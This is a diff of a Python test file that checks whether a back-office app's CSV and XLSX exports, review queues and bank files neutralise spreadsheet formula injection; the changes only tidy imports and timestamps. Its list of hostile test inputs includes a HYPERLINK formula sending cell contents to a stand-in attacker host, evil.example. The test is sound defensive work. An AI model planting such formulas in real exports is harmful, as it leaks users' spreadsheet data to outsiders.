@@ -3,7 +3,7 @@ name and as an organisation's name (registration needs no login) come out as tex
 list as CSV and XLSX, the review queue, appeals, transfers, the paid list and the bank file — masked or not."""
 import csv
 import io
-from datetime import datetime, timedelta
+from datetime import timedelta
 
 import pytest
 from factories import make
@@ -14,8 +14,17 @@ from backoffice.domain.enums import ApplicationState, OrgKind, PaymentStatus
 from backoffice.domain.masking import FORMULA_PREFIXES
 from backoffice.extensions import db as _db
 from backoffice.models import (
-    Appeal, Applicant, Application, AuditEvent, Disbursement, Organisation, PaymentBatch, RosterEntry, Transfer,
+    Appeal,
+    Applicant,
+    Application,
+    AuditEvent,
+    Disbursement,
+    Organisation,
+    PaymentBatch,
+    RosterEntry,
+    Transfer,
 )
+from backoffice.models.base import utcnow
 from backoffice.services import orgs as org_service
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+2", "-3+4", "@SUM(1)"]
@@ -60,10 +69,10 @@ def _review_rows(hostile_orgs):
     """Rows the review exports list: submitted applications, open appeals, transfers, paid disbursements."""
     for org in hostile_orgs:
         for a in _db.session.execute(_db.select(Application).where(Application.org_id == org.id)).scalars():
-            a.state, a.submitted_at = ApplicationState.IN_REVIEW, datetime.utcnow()
+            a.state, a.submitted_at = ApplicationState.IN_REVIEW, utcnow()
         for d in _db.session.execute(_db.select(Disbursement).join(Application).where(
                 Application.org_id == org.id)).scalars():
-            d.status, d.paid_at, d.bank_card = PaymentStatus.PAID, datetime.utcnow() - timedelta(days=1), \
+            d.status, d.paid_at, d.bank_card = PaymentStatus.PAID, utcnow() - timedelta(days=1), \
                 "6222020200112233445"
         for t in _db.session.execute(_db.select(Transfer).where(Transfer.from_org_id == org.id)).scalars():
             t.to_org_id = hostile_orgs[0].id
